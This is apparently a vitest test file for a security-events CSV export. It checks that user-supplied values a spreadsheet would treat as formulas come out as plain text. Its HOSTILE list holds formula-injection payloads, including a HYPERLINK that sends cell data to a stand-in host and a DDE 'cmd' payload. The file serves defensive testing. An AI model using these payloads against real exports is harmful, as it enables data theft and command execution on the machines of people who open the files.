/**
 * The hole: an attacker writes `=HYPERLINK(…)` or `@SUM(…)|cmd` where an Origin, a user id or a fingerprint belongs; the moderator opens the
 * export in a spreadsheet, which runs it and sends the rows next to it away.
 * Here: text that a spreadsheet would take for a formula is text, quotes and line ends stay inside their cell, and what it says is all there.
 */
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type TestApp, startApp } from '../helpers/app.ts'
import { Operator } from '../helpers/operator.ts'

let server: TestApp
beforeAll(async () => {
  server = await startApp()
})
afterAll(() => server.close())

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '＝1+1', '＋1', '－1', '＠A1',
  'a"b,c\r\n=1+1', 'plain',
]

test('what strangers wrote is text in every column of an export', async () => {
  for (const [index, text] of HOSTILE.entries()) {
    await server.app.db.query(
      `insert into security_events (project_id, occurred_at, event_id, event_type, severity, endpoint, last_seen_at, origin, fingerprint, error_message, end_user_email, end_user_id, note)
       values ($1, date_trunc('second', now()) + $2 * interval '1 second', gen_random_uuid(), 'origin_mismatch', 'low', $3, now(), $3, $3, $3, $3, $3, $3)`, [server.project.id, index, text])
  }
  const answer = await new Operator(server, server.operators.viewer).call('GET', '/security/v1/events/export.csv?sort=oldest')
  expect(answer.statusCode).toBe(200)
  const [header = [], ...rows] = parse(answer.body)
  expect(rows).toHaveLength(HOSTILE.length)
  for (const [index, row] of rows.entries()) {
    expect(row).toHaveLength(header.length)
    for (const column of ['endpoint', 'origin', 'fingerprint', 'errorMessage', 'endUserEmail', 'endUserId', 'note']) {
      const cell = row[header.indexOf(column)] ?? ''
      expect(`${column}: ${/^[=+\-@\t\r＝＋－＠]/.test(cell) ? cell : 'text'}`).toBe(`${column}: text`)
      expect(cell.replace(/^'/, '')).toBe(HOSTILE[index])
    }
  }
})

/** RFC 4180, as a spreadsheet reads it. */
function parse(text: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, bare, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare ?? '')
    if (end === '\r\n') rows.push([])
    if (end === '') break
  }
  return rows.filter((row) => row.length > 1)
}
